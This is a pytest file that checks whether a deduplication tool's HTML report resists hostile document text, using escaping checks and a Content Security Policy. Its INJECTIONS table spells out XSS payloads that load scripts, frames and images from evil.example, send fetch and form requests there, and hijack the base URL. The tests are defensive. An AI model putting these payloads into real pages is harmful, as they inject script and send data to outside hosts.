"""Texts that attack the page: nothing of them runs, all can be read, and the policy of the page stands behind."""

from __future__ import annotations

import json
import re

import pytest

import dedup
from tests.browser.chromium import open_tab
from tests.browser.hostile import LONG_TITLE, MARKUP, records

CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
ALL_STRINGS = """() => [
    document.documentElement.textContent,
    ...[...document.querySelectorAll('*')].flatMap(node => [...node.attributes].map(attribute => attribute.value)),
]"""
APPEND = """
    const append = (name, values) => {
        const node = Object.assign(document.createElement(name), values);
        document.body.append(node);
        return node;
    };
"""
INJECTIONS = {  # what a hole in the page would let in, the directive that stops it, and how it would be let in
    "inline script": ("script-src-elem", "append('script', {text: 'window.pwned = 1'})"),
    "script of another": ("script-src-elem", "append('script', {src: 'https://evil.example/x.js'})"),
    "script in a data URL": ("script-src-elem", "append('script', {src: 'data:text/javascript,window.pwned=1'})"),
    "event handler": ("script-src-attr", "append('b', {}).setAttribute('onclick', 'window.pwned = 1')"),
    "text as a script": ("script-src", "setTimeout('window.pwned = 1', 0)"),
    "javascript: address": ("script-src-elem", "append('a', {href: 'javascript:window.pwned = 1'}).click()"),
    "image": ("img-src", "append('img', {src: 'https://evil.example/x.png'})"),
    "inline style": ("style-src-elem", "append('style', {textContent: 'b { background: url(//evil.example/x) }'})"),
    "style of an element": (
        "style-src-attr",
        "append('b', {}).setAttribute('style', 'background: url(//evil.example)')",
    ),
    "frame": ("frame-src", "append('iframe', {src: 'https://evil.example/'})"),
    "fetch": ("connect-src", "fetch('https://evil.example/').catch(() => {})"),
    "form": ("form-action", "append('form', {action: 'https://evil.example/'}).submit()"),
    "base": ("base-uri", "document.head.append(append('base', {href: 'https://evil.example/'}))"),
}
SEEN = """async () => {
    const seen = [];
    document.addEventListener('securitypolicyviolation', event => seen.push(event.effectiveDirective));
    %s
    await new Promise(resolve => setTimeout(resolve, 200));
    return seen;
}"""
EXECUTABLE = "[...document.scripts].filter(({type}) => !type || /script|module/.test(type)).length"
FORBIDDEN = "iframe, object, embed, img, form[action], base, link, audio, video, meta[http-equiv=refresh]"


@pytest.fixture(scope="session")
def hostile_run(tmp_path_factory):
    """A run on a hostile corpus."""
    folder = tmp_path_factory.mktemp("hostile")
    source = folder / "hostile.jsonl"
    source.write_text("".join(f"{json.dumps(record)}\n" for record in records()), encoding="utf-8")
    return dedup.run(source, out=folder / "out")


@pytest.fixture(scope="session", params=["plain", "packed"])
def hostile_report(request, hostile_run):
    """Its report, with all sections in the page, and with all of them packed until they are asked for."""
    path = hostile_run.path.parent / f"{request.param}.html"
    with pytest.MonkeyPatch.context() as patch:
        if request.param == "packed":
            patch.setattr("dedup.report.compose._PLAIN", 0.0)
        hostile_run.report(path)
    return path


def _all_brought(tab):
    """The tab, after every view has been looked at."""
    for view in tab.views():
        tab.go(view)
        tab.page.mouse.move(200, 300)
    return tab


def test_nothing_runs(hostile_report, opened):
    """No script, handler, dialog, window or request comes of a text, not even when everything is looked at."""
    tab = _all_brought(opened(hostile_report))
    assert tab.page.evaluate("window.pwned") is None
    assert tab.page.locator(FORBIDDEN).count() == 0
    policy = tab.page.locator("meta[http-equiv=Content-Security-Policy]").get_attribute("content")
    scripts = next(rule for rule in policy.split(";") if rule.strip().startswith("script-src"))
    assert tab.page.evaluate(EXECUTABLE) == scripts.count("'sha256-")
    assert "unsafe" not in policy
    assert "default-src 'none'" in policy


def test_no_markup_of_a_text_becomes_an_element(hostile_report, opened):
    """No attribute calls a script or carries a style, and no link leads but to a view of the page or to the web."""
    tab = _all_brought(opened(hostile_report))
    names = tab.page.evaluate("[...new Set([...document.querySelectorAll('*')].flatMap(n => n.getAttributeNames()))]")
    assert [name for name in names if name.startswith("on") or name in {"style", "srcdoc", "srcset", "action"}] == []
    links = tab.page.evaluate("[...document.querySelectorAll('a')].map(a => a.href.baseVal ?? a.getAttribute('href'))")
    assert [link for link in links if not re.match(r"#[\w-]+$|https?://", link)] == []


def test_all_of_it_appears_as_text(hostile_report, opened):
    """Each attack stands as it was written in the title and in the text of its document; {{7*7}} is not 49."""
    page = _all_brought(opened(hostile_report)).page
    read = "node => ['h2', '.text'].map(part => node.querySelector(part).textContent)"
    shown = [page.locator(f"#doc-d{2 * number}").evaluate(read) for number in range(len(MARKUP))]
    assert [attack for attack, (title, text) in zip(MARKUP, shown, strict=True) if attack not in title] == []
    assert [attack for attack, (title, text) in zip(MARKUP, shown, strict=True) if attack not in text] == []


def test_what_cannot_be_seen_is_made_visible(hostile_report, opened):
    """No control character and no mark that turns the direction of text reaches the page, in no attribute either."""
    tab = _all_brought(opened(hostile_report))
    assert [string[:200] for string in tab.page.evaluate(ALL_STRINGS) if CONTROLS.search(string)] == []
    assert "egnp" in tab.page.locator("body").text_content() or "gnp.exe" in tab.page.locator("body").text_content()


def test_a_long_title_is_cut(hostile_report, opened):
    """A title of 100,000 characters takes no more of the page than another, and does not widen it on a phone."""
    tab = opened(hostile_report, viewport={"width": 390, "height": 844})
    assert (
        max(
            len(string)
            for string in tab.page.evaluate(
                "[...document.querySelectorAll('h1, h2, h3, title, a, td')].map(n => n.textContent)"
            )
        )
        < 2_000
    )
    assert hostile_report.stat().st_size < 2_000_000
    assert LONG_TITLE not in hostile_report.read_text(encoding="utf-8")
    for view in tab.views():
        tab.go(view)
        assert tab.page.evaluate("document.documentElement.scrollWidth") <= 390, view


@pytest.mark.parametrize("name", INJECTIONS)
def test_the_policy_stops_what_would_get_in(hostile_report, browser, name):
    """Markup brought into the finished page, as a hole in the escaping would, neither runs nor asks for anything."""
    directive, code = INJECTIONS[name]
    tab = open_tab(browser, hostile_report)
    violated = tab.page.evaluate(SEEN % f"{APPEND}{code}")
    pwned, let_out = tab.page.evaluate("window.pwned"), set(tab.requests[1:]) - set(tab.stopped)
    tab.page.context.close()
    assert (directive in violated, pwned, let_out) == (True, None, set())


def test_without_a_policy_it_would_get_in(hostile_report, browser, tmp_path):
    """The same injection runs where the page has lost its policy: the test above can fail."""
    page = re.sub("<meta http-equiv=.?Content-Security-Policy[^>]*>", "", hostile_report.read_text(encoding="utf-8"))
    (tmp_path / "bare.html").write_text(page, encoding="utf-8")
    tab = open_tab(browser, tmp_path / "bare.html")
    violated = tab.page.evaluate(SEEN % f"{APPEND}{INJECTIONS['inline script'][1]}")
    pwned = tab.page.evaluate("window.pwned")
    tab.page.context.close()
    assert (violated, pwned) == ([], 1)
